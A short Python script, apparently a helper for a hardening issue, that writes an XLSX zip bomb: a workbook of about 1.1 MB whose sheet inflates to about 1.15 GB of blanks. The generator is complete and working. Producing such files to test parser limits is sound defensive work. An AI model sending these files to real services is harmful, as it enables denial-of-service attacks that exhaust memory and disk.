#!/usr/bin/env python3
"""Writes an XLSX zip bomb like the one of the hardening issue: a 1.1 MB workbook whose sheet inflates
to about 1.15 GB of blanks. Usage: make-zip-bomb.py OUT.xlsx [inflated-MB]"""
import sys
import zipfile

out = sys.argv[1]
inflated = int(sys.argv[2]) if len(sys.argv) > 2 else 1150
chunk = b" " * (1 << 20)
with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as book:
    book.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>')
    book.writestr("xl/workbook.xml", '<?xml version="1.0"?><workbook><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>')
    book.writestr("xl/_rels/workbook.xml.rels", '<?xml version="1.0"?><Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>')
    with book.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
        sheet.write(b"<worksheet><sheetData>")
        for _ in range(inflated):
            sheet.write(chunk)
        sheet.write(b"</sheetData></worksheet>")
